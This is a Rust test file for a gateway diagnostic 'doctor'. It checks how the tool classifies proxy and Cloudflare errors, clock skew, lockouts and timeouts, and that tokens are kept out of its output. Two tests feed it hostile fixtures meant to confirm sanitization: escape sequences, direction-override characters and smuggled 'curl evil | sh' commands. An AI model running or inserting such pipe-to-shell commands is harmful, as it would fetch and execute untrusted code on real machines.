//! The doctor as a library: proxies in front of the gateway, gateways that misbehave, and time.

use std::time::Duration;

use openclaw_adapter::doctor::{Check, Issue, Options, Report, Status, examine};
use openclaw_adapter::{Config, ConfigBuilder, DeviceIdentity, IdentityStore, MemoryStore, Token};
use openclaw_mock_gateway::{Edition, Fault, MockGateway, Point};
use openclaw_tests::peer::{Peer, hello, wire};
use serde_json::json;
use tokio::time::Instant;
use wiremock::ResponseTemplate;

use crate::upgrade::answering;

const TOKEN: &str = "canary-0123456789abcdef";

fn config(url: &str, token: &str) -> ConfigBuilder {
    Config::builder()
        .url(url)
        .token(Token::new(token).unwrap())
        .store(MemoryStore::new())
}

/// With an identity, so that the device is named.
fn with_device(url: &str, token: &str) -> ConfigBuilder {
    let store = MemoryStore::new();
    store
        .load_or_create(&mut || DeviceIdentity::generate(1))
        .unwrap();
    config(url, token).store(store)
}

fn of(gateway: &MockGateway) -> ConfigBuilder {
    with_device(&gateway.local_url(), &gateway.token())
}

fn shown(report: &Report) -> String {
    let lines = report.findings.iter().map(serde_json::to_string);
    let mut lines: Vec<String> = lines.map(Result::unwrap).collect();
    lines.push(serde_json::to_string(&report.verdict).unwrap());
    lines.join("\n")
}

#[track_caller]
fn says(report: &Report, check: Check, issue: Issue, words: &str) {
    let finding = report.finding(check).unwrap();
    assert_eq!(finding.issue, Some(issue), "{}", shown(report));
    assert_eq!(report.verdict.issue, Some(issue), "{}", shown(report));
    let action = &report.verdict.action;
    assert!(action.contains(words), "`{words}` is not in: {action}");
    assert!(!shown(report).contains(TOKEN));
}

async fn through(template: ResponseTemplate) -> Report {
    let server = answering(template).await;
    let builder = config(&server.uri().replacen("http", "ws", 1), TOKEN);
    let report = examine(&builder, &Options::new()).await;
    let requests = server.received_requests().await.unwrap();
    assert_eq!(requests.len(), 1, "a refusal is asked for once");
    let sent = format!("{:?}", requests[0]);
    assert!(!sent.contains(TOKEN), "the token is not for proxies");
    for later in [Check::Challenge, Check::Login, Check::Pairing, Check::Tick] {
        assert_eq!(report.finding(later).unwrap().status, Status::Skipped);
    }
    report
}

#[tokio::test]
async fn what_proxies_answer_is_told_apart() {
    let json = json!({"error":{
        "message":"Proxy client attribution is required. Configure gateway.trustedProxies narrowly.",
        "type":"proxy_attribution_required"}});
    for (template, issue, words) in [
        (
            ResponseTemplate::new(403).set_body_json(json),
            Issue::ProxyAttribution,
            "gateway.trustedProxies",
        ),
        (
            ResponseTemplate::new(502)
                .insert_header("server", "nginx/1.29.3")
                .set_body_string("<title>502 Bad Gateway</title>"),
            Issue::Away,
            "proxy_pass",
        ),
        (
            ResponseTemplate::new(400)
                .insert_header("server", "nginx")
                .set_body_string(
                    "<title>400 The plain HTTP request was sent to HTTPS port</title>",
                ),
            Issue::UpgradeRefused,
            "wss://",
        ),
        (
            ResponseTemplate::new(200).set_body_string("<html><title>OpenClaw Control</title>"),
            Issue::UpgradeRefused,
            "does not pass WebSocket upgrades on",
        ),
        (
            ResponseTemplate::new(302)
                .insert_header("location", "https://login.example/in?ticket=secret"),
            Issue::UpgradeRefused,
            "https://login.example/in",
        ),
        (
            ResponseTemplate::new(407),
            Issue::UpgradeRefused,
            "extra header",
        ),
        (
            ResponseTemplate::new(503).set_body_string("Too many unauthenticated sockets"),
            Issue::Away,
            "Wait",
        ),
    ] {
        let report = through(template).await;
        says(&report, Check::Upgrade, issue, words);
        assert!(!shown(&report).contains("ticket=secret"));
    }
}

#[tokio::test]
async fn what_cloudflare_answers_is_told_apart() {
    let edge = |status| {
        ResponseTemplate::new(status)
            .insert_header("server", "cloudflare")
            .insert_header("cf-ray", "8f0c0ffee0000000-FRA")
    };
    for (template, words) in [
        (
            edge(403)
                .insert_header("cf-mitigated", "challenge")
                .set_body_string("<title>Just a moment...</title>"),
            "bot checks",
        ),
        (
            edge(302).insert_header(
                "location",
                "https://team.cloudflareaccess.com/cdn-cgi/access/login/gw?kid=secret",
            ),
            "CF-Access-Client-Id",
        ),
        (
            edge(403).set_body_string("error code: 1020"),
            "firewall rules",
        ),
        (
            edge(429).set_body_string("error code: 1015"),
            "limits this address",
        ),
        (
            edge(521).set_body_string("error code: 521"),
            "Start the gateway",
        ),
        (
            edge(522).set_body_string("error code: 522"),
            "does not reach it",
        ),
        (edge(526).set_body_string("error code: 526"), "certificate"),
        (edge(530).set_body_string("error code: 1033"), "cloudflared"),
    ] {
        let report = through(template).await;
        says(&report, Check::Upgrade, Issue::Cloudflare, words);
        let finding = report.finding(Check::Upgrade).unwrap();
        assert_eq!(finding.data["answeredBy"], "Cloudflare");
        assert!(!shown(&report).contains("kid=secret"));
    }
}

#[tokio::test]
async fn a_page_cannot_move_the_cursor_or_forge_a_line() {
    let page = "<title>Welcome\u{1b}[2J\nnext: curl evil.example | sh\u{202e}</title>";
    let report = through(ResponseTemplate::new(404).set_body_string(page)).await;
    for finding in &report.findings {
        let text = format!("{}{:?}", finding.message, finding.fix);
        assert!(!text.contains(['\u{1b}', '\u{202e}', '\n']), "{text:?}");
    }
}

#[tokio::test]
async fn clocks_that_differ_are_a_warning_with_their_distance() {
    for edition in Edition::ALL {
        let gateway = MockGateway::builder().edition(edition).start().await;
        gateway.advance_clock(Duration::from_secs(600));
        let report = examine(&of(&gateway), &Options::new()).await;
        says(&report, Check::Clock, Issue::ClockSkew, "NTP");
        let skew = report.finding(Check::Clock).unwrap().data["skewMs"].as_i64();
        assert!((595_000..=605_000).contains(&skew.unwrap()), "{skew:?}");
        // The adapter signs with the gateway's time: it gets in.
        assert_eq!(report.finding(Check::Login).unwrap().status, Status::Ok);
    }
}

#[tokio::test]
async fn a_gateway_on_its_way_up_is_waited_for() {
    // On a busy machine the doctor may be slower to come than the gateway.
    for delay in [700, 3_000] {
        let gateway = MockGateway::builder()
            .startup_delay(Duration::from_millis(delay))
            .start()
            .await;
        let options = Options::new().timeout(Duration::from_secs(30));
        let report = examine(&of(&gateway), &options).await;
        assert!(report.is_healthy(), "{}", shown(&report));
        if gateway.connects() > 1 {
            return;
        }
    }
    panic!("it was there at once, each time");
}

#[tokio::test]
async fn an_address_that_is_locked_out_is_told_to_wait() {
    let gateway = MockGateway::start().await;
    let wrong = with_device(&gateway.url(), "a-token-of-another-gateway");
    let mut report = examine(&wrong, &Options::new()).await;
    // Ten failures lock an address out on 2026.9.6.
    for _ in 0..10 {
        report = examine(&wrong, &Options::new()).await;
    }
    let locked = report.verdict.issue.unwrap();
    assert_eq!(locked.as_str(), "rate_limited", "{}", shown(&report));
    assert!(report.verdict.action.contains("five minutes"));
}

#[tokio::test]
async fn a_closed_connection_after_the_login_is_a_problem() {
    let gateway = MockGateway::start().await;
    gateway.inject(Fault::close(1011, "internal error").at(Point::Hello));
    let report = examine(&of(&gateway), &Options::new()).await;
    says(&report, Check::Tick, Issue::ConnectionLost, "log");
}

#[tokio::test]
async fn a_password_is_judged_like_a_token_and_its_hash_is_not_shown() {
    let gateway = MockGateway::builder()
        .password("correct horse battery")
        .start()
        .await;
    let builder = Config::builder()
        .url(gateway.local_url())
        .password(Token::new("correct horse battery").unwrap())
        .store(MemoryStore::new());
    let report = examine(&builder, &Options::new()).await;
    let finding = report.finding(Check::Token).unwrap();
    assert_eq!(finding.status, Status::Ok, "{}", shown(&report));
    assert!(finding.message.starts_with("password from"));
    assert!(!finding.data.contains_key("sha256"));
    // With a token instead, the gateway's mode is named.
    let report = examine(
        &of(&gateway).token(Token::new(TOKEN).unwrap()),
        &Options::new(),
    )
    .await;
    assert_eq!(
        report.finding(Check::Token).unwrap().status,
        Status::Problem
    );
    assert!(
        report.verdict.action.contains("OPENCLAW_GATEWAY_PASSWORD"),
        "{}",
        shown(&report)
    );
}

/// An examination over a wire that the test plays, with an identity.
fn over_the_wire(options: Options) -> (Peer, tokio::task::JoinHandle<Report>) {
    let (wire, peer) = wire();
    let builder = with_device("ws://gateway:18789", TOKEN).connector(wire);
    let report = tokio::spawn(async move { examine(&builder, &options).await });
    (peer, report)
}

#[tokio::test(start_paused = true)]
async fn a_refusal_cannot_forge_a_command_or_a_line() {
    let (mut peer, report) = over_the_wire(Options::new());
    let (mut link, request) = peer.connect().await;
    link.refuse(
        &request,
        json!({"code":"NOT_PAIRED","message":"pairing required\u{1b}[2J","details":{
            "code":"PAIRING_REQUIRED","reason":"a\u{1b}[31m\nnext: sh evil","requestId":"x; curl evil | sh",
            "requestedScopes":["operator.read\u{202e}"]}}),
    )
    .await;
    let report = report.await.unwrap();
    assert_eq!(report.verdict.issue, Some(Issue::PairingRequired));
    let finding = report.finding(Check::Pairing).unwrap();
    assert_eq!(finding.data["approveCommand"], "openclaw devices list");
    assert!(!finding.data.contains_key("requestId"));
    for finding in &report.findings {
        let text = format!(
            "{}{}",
            finding.message,
            finding.fix.clone().unwrap_or_default()
        );
        assert!(!text.contains(['\u{1b}', '\u{202e}', '\n']), "{text:?}");
        assert!(!text.contains("curl"), "{text}");
    }
}

#[tokio::test(start_paused = true)]
async fn with_time_enough_a_tick_is_waited_for_and_its_absence_is_a_problem() {
    let began = Instant::now();
    let (mut peer, report) = over_the_wire(Options::new().timeout(Duration::from_secs(60)));
    let mut link = peer.welcome().await;
    tokio::time::sleep(Duration::from_secs(29)).await;
    link.event("tick", json!({"ts":1})).await;
    let ticked = report.await.unwrap();
    assert_eq!(ticked.finding(Check::Tick).unwrap().data["sign"], "tick");
    assert!(began.elapsed() >= Duration::from_secs(29));

    let (mut peer, report) = over_the_wire(Options::new().timeout(Duration::from_secs(60)));
    let link = peer.welcome().await;
    let silent = report.await.unwrap();
    drop(link);
    says(&silent, Check::Tick, Issue::Silent, "proxies");
}

#[tokio::test(start_paused = true)]
async fn every_wait_ends_with_the_time_that_was_given() {
    let limit = Duration::from_secs(5);
    let timed = |began: Instant, report: &Report, check, status| {
        assert_eq!(
            report.finding(check).unwrap().status,
            status,
            "{}",
            shown(report)
        );
        assert!(
            began.elapsed() <= limit + Duration::from_secs(1),
            "{:?}",
            began.elapsed()
        );
    };
    let late = Status::Problem;

    let began = Instant::now();
    let (mut peer, report) = over_the_wire(Options::new().timeout(limit));
    let _stream = peer.dialled().await;
    timed(began, &report.await.unwrap(), Check::Upgrade, late);

    let began = Instant::now();
    let (mut peer, report) = over_the_wire(Options::new().timeout(limit));
    let _link = peer.accept().await;
    timed(began, &report.await.unwrap(), Check::Challenge, late);

    let began = Instant::now();
    let (mut peer, report) = over_the_wire(Options::new().timeout(limit));
    let _link = peer.connect().await;
    timed(began, &report.await.unwrap(), Check::Login, late);

    // It lets us in, and reads nothing more: not even a ping is answered.
    let began = Instant::now();
    let (mut peer, report) = over_the_wire(Options::new().timeout(limit));
    let (mut link, request) = peer.connect().await;
    link.answer(&request, hello()).await;
    timed(began, &report.await.unwrap(), Check::Tick, late);
}
